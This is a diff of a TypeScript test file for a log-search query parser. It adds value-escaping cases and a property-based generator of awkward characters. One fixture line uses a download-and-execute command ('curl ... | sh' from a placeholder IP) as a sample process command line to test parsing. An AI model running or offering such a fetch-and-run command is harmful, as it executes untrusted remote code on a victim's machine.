@@ -14,14 +14,19 @@ test('plain words stay bare, everything else is quoted', () => {
   f('user.name', 'null', 'user.name:"null"')
   f('user.name', 'OR', 'user.name:"OR"')
   f('app', 'a b', 'app:"a b"')
-  f('process.command_line', 'echo "x" \\ *', 'process.command_line:"echo \\"x\\" \\\\ *"')
+  f('process.command_line', 'echo "x" \\ *', 'process.command_line:"echo \\"x\\" \\\\ \\*"')
   f('source.ip', '2001:db8::1', 'source.ip:"2001:db8::1"')
   f('app', '', 'app:""')
 })
 
+const awkward = fc.oneof(
+  fc.constantFrom('*', '?', '"', '\\', ' ', ':', '(', ')', '-', '/'),
+  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 3 }),
+)
+
 test('the parser takes every clause of a keyword field as that very value', () => {
   fc.assert(
-    fc.property(fc.string({ unit: 'grapheme', minLength: 1, maxLength: 40 }), value => {
+    fc.property(fc.string({ unit: awkward, minLength: 1, maxLength: 40 }), value => {
       const parsed = parseQuery(clause('user.name', value))
       ok('query' in parsed, JSON.stringify(parsed))
       ok(parsed.query.kind === 'test' && parsed.query.field === 'user.name' && parsed.query.test.op === 'glob')
@@ -40,6 +45,7 @@ test('clauses of all kinds of fields that facets and records offer are accepted'
     ['process.command_line', 'curl -s http://198.51.100.7/x.sh | sh'],
     ['sd.ex@32473.k', 'v "quoted"'],
     ['transport', 'tcp'],
+    ['host', '*'],
   ] as const) {
     ok(findField(field), field)
     const parsed = parseQuery(clause(field, value))
